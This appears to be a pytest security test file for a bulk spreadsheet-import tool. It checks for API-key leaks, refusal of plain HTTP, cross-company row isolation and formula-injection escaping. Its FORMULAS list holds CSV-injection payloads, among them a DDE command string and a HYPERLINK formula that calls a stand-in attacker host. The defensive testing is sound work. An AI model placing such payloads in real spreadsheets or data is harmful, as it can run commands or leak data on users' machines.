"""Security: the key never leaves the request headers, https off loopback, one company's key cannot reach another
company's rows through any bulkio path, and exports never carry live formulas from data."""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from bulkio.api.client import Client
from bulkio.api.query import eq
from bulkio.cli.app import app
from bulkio.config import Settings
from bulkio.errors import ApiError, ApplyError, BulkioError, ConfigError, TransportError
from bulkio.export.table import export_table
from bulkio.plan import Kind, plan
from bulkio.run.apply import apply
from bulkio.run.results import write_results_workbook
from bulkio.run.undo import undo
from bulkio.sandbox import Sandbox
from bulkio.sheets.read import read_sheet
from bulkio.sheets.write import write_csv, write_workbook
from bulkio.validate.errorbook import write_error_workbook

from .helpers import edit_workbook, everything, sheet_rows

KEY = "sk_live_BULKIO7f3a9c2e5d1b4-SECRET-c0ffee"
FRAGMENTS = (KEY, KEY[8:24], "SECRET-c0ffee")  # the whole key, and pieces of it (a cut or masked-but-leaky copy)

DRIVER = """
import contextlib, json, logging, os, re, sys, traceback
logging.basicConfig(level=logging.DEBUG, filename="debug.log", format="%(name)s %(levelname)s %(message)s")
from bulkio.cli.app import main
codes, run = [], None
for n, step in enumerate(json.loads(sys.argv[1])):
    os.environ.update(step.get("env", {}))
    args = [a.replace("{run}", run or "") for a in step["args"]]
    with open(f"out-{step['tag']}-{n}.txt", "w") as out, open(f"err-{step['tag']}-{n}.txt", "w") as err, \\
            contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        sys.argv = ["bulkio", *args]
        try:
            main()
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else 1
        except BaseException:
            traceback.print_exc()
            code = "crash"
    text = open(out.name).read() + open(err.name).read()
    found = re.search(r"bulkio undo (\\S+)", text)
    run = found.group(1) if found and args[0] == "apply" else run
    codes.append([args, code])
print(json.dumps(codes))
"""
"""Runs bulkio commands one after another in one process (one start-up instead of one per command), each with its
stdout and stderr in files, logging at DEBUG to debug.log; prints the exit codes."""


@pytest.fixture(scope="module")
def secret_sandbox() -> Iterator[Sandbox]:
    """A sandbox whose admin key is distinctive, so any copy of it in an artefact is found."""
    with Sandbox(rows=30, seed=11, api_key=KEY) as sb:
        yield sb


def _leaks(text: str | bytes) -> list[str]:
    data = text.decode("utf-8", "replace") if isinstance(text, bytes) else text
    return [f for f in FRAGMENTS if f in data]


def _files(root: Path) -> Iterator[tuple[str, bytes]]:
    """Every file under `root`, zip archives (xlsx) opened member by member (their XML is compressed)."""
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        data = path.read_bytes()
        yield str(path.relative_to(root)), data
        if data.startswith(b"PK\x03\x04"):
            with zipfile.ZipFile(path) as archive:
                for member in archive.namelist():
                    yield f"{path.relative_to(root)}!{member}", archive.read(member)


# ------------------------------------------------------------------------------------------------ the key
def test_the_key_appears_in_no_artefact_of_a_full_run(secret_sandbox: Sandbox, tmp_path: Path) -> None:
    """export -> validate -> plan (every report format) -> apply -> undo, plus ping, resources and the failure paths,
    through the CLI in real processes with logging at DEBUG: no output, log, report, workbook or journal holds the
    key."""
    sb = secret_sandbox
    env = {**os.environ, "BULKIO_BASE_URL": sb.url, "BULKIO_API_KEY": KEY, "BULKIO_CONFIG": "", "COLUMNS": "200"}

    def bulkio(tag: str, *steps: tuple[list[str], tuple[int, ...]] | tuple[list[str], tuple[int, ...], dict[str, str]]
               ) -> None:
        plan_ = [{"tag": tag, "args": step[0], "env": step[2] if len(step) > 2 else {}} for step in steps]
        done = subprocess.run([sys.executable, "-c", DRIVER, json.dumps(plan_)], cwd=tmp_path, env=env,
                              capture_output=True, timeout=300)
        assert done.returncode == 0, done.stderr.decode()[-3000:]
        (tmp_path / f"driver-{tag}.txt").write_bytes(done.stdout + done.stderr)
        codes = json.loads(done.stdout.decode().splitlines()[-1])
        for (args, code), step in zip(codes, steps, strict=True):
            assert code in step[1], (args, code, sorted(p.name for p in tmp_path.glob(f"*-{tag}-*")))

    bulkio("export", (["ping"], (0,)), (["resources"], (0,)), (["export", "customer", "-o", "customers.xlsx"], (0,)),
           (["export", "customer", "-o", "customers.csv"], (0,)),
           (["template", "customer", "-o", "template.xlsx", "--from-server"], (0,)))
    cells = sheet_rows(tmp_path / "customers.xlsx")
    plain = [r for r in sorted(cells) if not cells[r]["intercompanyCompanyId"]]  # deletable rows
    edit_workbook(tmp_path / "customers.xlsx", {(plain[0], "logo"): "secure.png", (plain[1], "_action"): "delete",
                                                (plain[2], "taxPercent"): 20},
                  append=[{"name": "Secret Key Test Ltd", "tags": "a, b"}])
    bulkio("invalid", (["validate", "customers.xlsx"], (1,)), (["plan", "customers.xlsx"], (1,)),  # taxPercent 20
           (["apply", "customers.xlsx", "--yes"], (1,)))
    edit_workbook(tmp_path / "customers.xlsx", {(plain[2], "taxPercent"): cells[plain[2]]["taxPercent"]})
    bulkio("apply", *[(["plan", "customers.xlsx", "--report", report], (3,)) for report in
                      ("plan.md", "plan.json", "plan.xlsx")],
           (["plan", "customers.csv", "--resource", "customer"], (0, 3)),
           (["apply", "customers.xlsx", "--yes"], (0,)), (["apply", "--resume", "{run}", "--yes"], (0,)),
           (["undo", "{run}", "--yes"], (0,)),
           (["ping"], (1,), {"BULKIO_API_KEY": KEY + "-revoked"}),  # a refused key: its error must not echo it
           (["ping"], (1,), {"BULKIO_API_KEY": KEY, "BULKIO_BASE_URL": "http://carbon.example.com"}))
    artefacts = list(_files(tmp_path))
    produced = {name.split("!")[0] for name, _ in artefacts}
    for expected in ("debug.log", "customers.xlsx", "customers.csv", "customers.errors.xlsx", "plan.md", "plan.json",
                     "plan.xlsx", "customers.results.xlsx", "template.xlsx"):
        assert expected in produced, f"{expected} was not written: {sorted(produced)}"
    journals = [name for name, _ in artefacts if name.startswith(".bulkio/runs/")]
    assert any(n.endswith("journal.jsonl") for n in journals) and any(n.endswith("undo.jsonl") for n in journals)
    captured = "".join(p.read_text() for p in sorted(tmp_path.glob("out-apply-*")))
    assert "undo with: bulkio undo" in captured and "created" in captured  # the outputs really were captured
    debug = (tmp_path / "debug.log").read_text()
    assert "DEBUG" in debug and "bulkio.client" in debug  # the log really was at DEBUG, with bulkio's requests
    leaks = [name for name, data in artefacts if _leaks(data)]
    assert not leaks, f"the API key appears in: {leaks}"


def test_exceptions_and_reprs_never_show_the_key(secret_sandbox: Sandbox, tmp_path: Path) -> None:
    sb = secret_sandbox
    texts: list[str] = []
    with Client(sb.url, KEY) as client:
        texts += [repr(client), str(client.settings), repr(client.settings), repr(sb)]
        for call in (lambda: client.get("customer", [("nosuchcolumn", "eq.1")]),
                     lambda: client.insert("customer", [{"name": None}]),
                     lambda: client.update("customer", [("id", eq("x"))], {"nosuchcolumn": 1})):
            with pytest.raises(ApiError) as info:
                call()
            texts += [str(info.value), repr(info.value), json.dumps(info.value.to_dict())]
        cells_path = tmp_path / "c.xlsx"
        write_workbook(export_table(client, "customer"), cells_path)
        edit_workbook(cells_path, {(2, "logo"): "repr.png"}, append=[{"name": "Repr Ltd"}])
        planned = plan(client, cells_path)
        results = apply(client, planned, root=tmp_path)
        texts += [repr(planned), planned._repr_html_(), planned.to_markdown(), planned.to_json(),
                  planned.to_frame().to_csv(), repr(results), results._repr_html_(), results.to_frame().to_csv()]
    with Client(sb.url, KEY + "-wrong") as wrong, pytest.raises(ApiError) as refused:
        wrong.count("customer")
    texts += [str(refused.value), repr(refused.value)]
    with Client("http://127.0.0.1:9", KEY, max_retries=0) as closed, pytest.raises(TransportError) as down:
        closed.count("customer")
    texts += [str(down.value), repr(down.value), repr(down.value.__cause__)]
    with pytest.raises(ConfigError) as unsafe:
        Client("http://carbon.example.com", KEY)
    texts += [str(unsafe.value), repr(unsafe.value), repr(Settings(api_key=KEY))]
    assert not [t for t in texts if _leaks(t)], [t for t in texts if _leaks(t)]


# ------------------------------------------------------------------------------------------------ https
@pytest.mark.parametrize("url", ["http://carbon.example.com", "http://10.0.0.5:3000", "http://0.0.0.0:8765",
                                 "http://127.0.0.1.nip.io", "http://localhost.example.com",
                                 "http://127.0.0.1@carbon.example.com", "ftp://127.0.0.1", "carbon.example.com"])
def test_a_key_is_never_sent_over_plain_http_off_loopback(url: str) -> None:
    with pytest.raises(ConfigError) as info:
        Client(url, KEY)
    assert not _leaks(str(info.value))


def test_a_config_file_or_profile_cannot_send_the_key_over_plain_http(tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    config = tmp_path / "config.toml"
    config.write_text(f'base_url = "https://rest.carbon.ms"\napi_key = "{KEY}"\n\n'
                      '[profiles.leaky]\nbase_url = "http://carbon.example.com"\n')
    monkeypatch.setenv("BULKIO_CONFIG", str(config))
    monkeypatch.delenv("BULKIO_BASE_URL", raising=False)
    monkeypatch.delenv("BULKIO_API_KEY", raising=False)
    Client().close()  # https: fine
    monkeypatch.setenv("BULKIO_PROFILE", "leaky")
    with pytest.raises(ConfigError, match="https") as info:
        Client()
    assert not _leaks(str(info.value))
    monkeypatch.delenv("BULKIO_PROFILE")
    monkeypatch.setenv("BULKIO_BASE_URL", "http://carbon.example.com")  # the environment over a safe file
    with pytest.raises(ConfigError, match="https"):
        Client()


@pytest.mark.parametrize("url", ["http://127.0.0.1:8765", "http://127.0.0.2", "http://localhost:8765",
                                 "http://[::1]:8765", "https://carbon.example.com"])
def test_loopback_and_https_are_allowed(url: str) -> None:
    Client(url, KEY).close()


def test_a_redirect_is_not_followed_with_the_key() -> None:
    """A server (or proxy) redirecting elsewhere never gets the key sent on: the sandbox cannot redirect, so a
    transport plays that server."""
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(307, headers={"Location": "http://collector.example.com/customer"})

    transport = httpx.MockTransport(handler)
    with Client("https://carbon.example.com", KEY, transport=transport, max_retries=0) as client, \
            pytest.raises(BulkioError) as info:
        client.count("customer")
    assert [r.url.host for r in seen] == ["carbon.example.com"] and not _leaks(str(info.value))


# ------------------------------------------------------------------------------------------------ row-level security
@pytest.fixture
def other_client(sandbox: Sandbox) -> Iterator[Client]:
    with Client(sandbox.url, sandbox.keys["other"]) as client:
        yield client


def _main_rows(sandbox: Sandbox) -> list[dict[str, object]]:
    return [r for r in sandbox.rows() if r["companyId"] == sandbox.company_id]


def test_another_company_cannot_read_our_rows(sandbox: Sandbox, other_client: Client) -> None:
    ours = {r["id"] for r in _main_rows(sandbox)}
    theirs = export_table(other_client, "customer").frame
    assert len(theirs) and not ours & set(theirs["id"])
    assert other_client.count("customer", [("id", f"in.({','.join(sorted(ours)[:20])})")]) == 0


def test_another_company_cannot_write_our_rows_through_the_client(sandbox: Sandbox, other_client: Client) -> None:
    before = everything(sandbox)
    target = str(_main_rows(sandbox)[0]["id"])
    assert other_client.update("customer", [("id", eq(target))], {"logo": "pwned.png"}).rows == []
    other_client.delete("customer", [("id", eq(target))])
    with pytest.raises(ApiError):  # an insert into our company is refused by row-level security
        other_client.insert("customer", [{"name": "Planted Ltd", "companyId": sandbox.company_id}])
    assert everything(sandbox) == before


def test_another_company_cannot_write_our_rows_through_a_sheet(sandbox: Sandbox, exported: Path, tmp_path: Path,
                                                               other_client: Client) -> None:
    """Our export, edited and planned with their key: nothing of ours can be planned, nor applied with the invalid
    rows skipped; a plain CSV of our ids gets an unknown-id error per row."""
    path = tmp_path / "ours.xlsx"
    path.write_bytes(exported.read_bytes())
    edit_workbook(path, {(2, "logo"): "pwned.png", (3, "_action"): "delete"})
    ours = _main_rows(sandbox)
    csv_path = tmp_path / "ours.csv"
    csv_path.write_text("id,logo,_action\n" + f"{ours[0]['id']},pwned.png,\n{ours[1]['id']},,delete\n")
    before = everything(sandbox)
    for source in (path, csv_path):
        planned = plan(other_client, source, resource="customer")
        assert planned.blocked and not planned.of(Kind.UPDATE) and not planned.of(Kind.DELETE)
        skipped = plan(other_client, source, resource="customer", skip_invalid=True)
        assert not skipped.of(Kind.UPDATE) and not skipped.of(Kind.DELETE) and not skipped.has_changes
    unknown = [i for i in plan(other_client, csv_path, resource="customer").errors if i.code.value == "unknown_key"]
    assert [(i.row, i.column) for i in unknown] == [(2, "id"), (3, "id")]
    assert everything(sandbox) == before


def test_another_company_cannot_undo_our_run(sandbox: Sandbox, exported: Path, tmp_path: Path,
                                             other_client: Client) -> None:
    """Our run's journal in their hands: undoing it with their key changes none of our rows (their deletes and
    updates match nothing, re-inserting our deleted row into our company is refused)."""
    path = tmp_path / "ours.xlsx"
    path.write_bytes(exported.read_bytes())
    cells = sheet_rows(path)
    deletable = next(r for r in sorted(cells) if not cells[r]["intercompanyCompanyId"])
    edit_workbook(path, {(2, "logo"): "ours.png", (deletable, "_action"): "delete"},
                  append=[{"name": "Ours Only Ltd"}])
    with Client(sandbox.url, sandbox.api_key) as ours:
        results = apply(ours, plan(ours, path), root=tmp_path)
    assert results.complete
    after_run = everything(sandbox)
    with pytest.raises(ApplyError, match="row-level security"):  # re-inserting our deleted row: refused, run stops
        undo(other_client, results.run_id, root=tmp_path)
    assert everything(sandbox) == after_run


# ------------------------------------------------------------------------------------------------ formulas
FORMULAS = ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", '=HYPERLINK("http://evil.example/?x","x")',
            "\t=1+1", "\r=1+1", "'=already escaped", "=1+1"]


def test_exports_never_hold_live_formulas_from_data(sandbox: Sandbox, tmp_path: Path) -> None:
    with Client(sandbox.url, sandbox.api_key) as client:
        client.insert("customer", [{"name": f"Formula {i} {text}", "companyId": sandbox.company_id, "logo": text,
                                    "website": text, "tags": [text], "customFields": {"note": text}}
                                   for i, text in enumerate(FORMULAS)])
        export = export_table(client, "customer")
        xlsx = write_workbook(export, tmp_path / "c.xlsx")
        csv_path = write_csv(export, tmp_path / "c.csv")
    cli = tmp_path / "cli.csv"
    result = CliRunner().invoke(app, ["export", "customer", "-o", str(cli)],
                                env={"BULKIO_BASE_URL": sandbox.url, "BULKIO_API_KEY": sandbox.api_key,
                                     "BULKIO_CONFIG": ""})
    assert result.exit_code == 0, result.output
    # the other workbooks bulkio writes from data: a plan report, an error workbook, a results workbook
    edited = tmp_path / "edited.xlsx"
    edited.write_bytes(xlsx.read_bytes())
    cells = sheet_rows(edited)
    mine = [r for r in sorted(cells) if str(cells[r]["name"]).startswith("Formula")]
    edit_workbook(edited, {(mine[0], "phone"): 442079460961, **{(r, "fax"): FORMULAS[i] for i, r in
                                                                 enumerate(mine[1:])}}, as_text=True)
    with Client(sandbox.url, sandbox.api_key) as client:
        planned = plan(client, edited, skip_invalid=True)
        assert planned.errors and len(planned.of(Kind.UPDATE)) == len(mine) - 1  # formula-like faxes to write
        report = planned.to_excel(tmp_path / "plan.xlsx")
        errors = write_error_workbook(read_sheet(edited), planned.issues, tmp_path / "errors.xlsx")
        results = apply(client, planned, root=tmp_path)
    sheet = read_sheet(edited)
    outcome = write_results_workbook(results, sheet.frame, sheet.rows, tmp_path / "results.xlsx")
    for book in (xlsx, report, errors, outcome):
        with zipfile.ZipFile(book) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets
            for name in sheets:
                assert not re.search(rb"<(\w+:)?f[\s>/]", archive.read(name)), f"a formula in {book.name}: {name}"
    frame = read_sheet(xlsx).frame  # the data is there, as text
    values = {v for column in ("logo", "website") for v in frame[column]}
    assert set(FORMULAS) <= values
    for path in (csv_path, cli):
        with open(path, encoding="utf-8-sig", newline="") as stream:
            cells = [c for row in csv.reader(stream) for c in row]
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not live, f"{path.name}: cells a spreadsheet would run: {live[:5]}"
        for text in FORMULAS:
            assert "'" + text in cells or any(("'" + text) in c for c in cells), (path.name, text)
